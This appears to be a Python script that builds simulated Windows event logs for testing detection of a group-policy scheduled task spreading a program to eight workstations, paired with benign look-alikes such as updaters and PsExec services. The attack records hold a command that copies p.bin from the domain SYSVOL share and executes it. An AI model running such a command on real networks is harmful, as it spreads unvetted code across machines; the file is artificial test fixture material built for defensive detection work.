"""Captures of `task-fan-out`: a task that group policy spreads, and an installer's task on as many computers."""

from pathlib import Path

from tools.captures import PACK
from tools.captures.windows_log import WindowsLog

HOSTS = 8


def attack(folder: Path) -> None:
    """Eight computers take up a policy within half an hour; its task copies a program from the domain's share."""
    log = WindowsLog()
    for number in range(HOSTS):
        arguments = "/c copy \\\\corp.example\\sysvol\\corp.example\\scripts\\p.bin C:\\p.exe &amp; C:\\p.exe"
        log.task(number * 200, f"ws{number:02}", "\\Inventory Refresh", "cmd.exe", arguments)
    log.write(folder)


def benign(folder: Path) -> None:
    """An installed program's updater comes to as many; Windows's own tasks; a remote tool's service on three."""
    log = WindowsLog()
    for number in range(HOSTS):
        host = f"ws{number:02}"
        log.task(number * 60, host, "\\ExampleUpdater", "C:\\Program Files\\Example\\update.exe", "/quiet")
        log.task(number * 60 + 5, host, "\\Microsoft\\Windows\\Example\\Refresh", "cmd.exe", "/c exit")
        log.service(number * 60 + 9, host, "ExampleSvc", '"C:\\Program Files\\Example\\svc.exe" -k')
    for number in range(3):
        log.service(9000 + number * 60, f"ws{number:02}", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    log.write(folder)


if __name__ == "__main__":
    attack(PACK / "task-fan-out" / "attack")
    benign(PACK / "task-fan-out" / "benign")
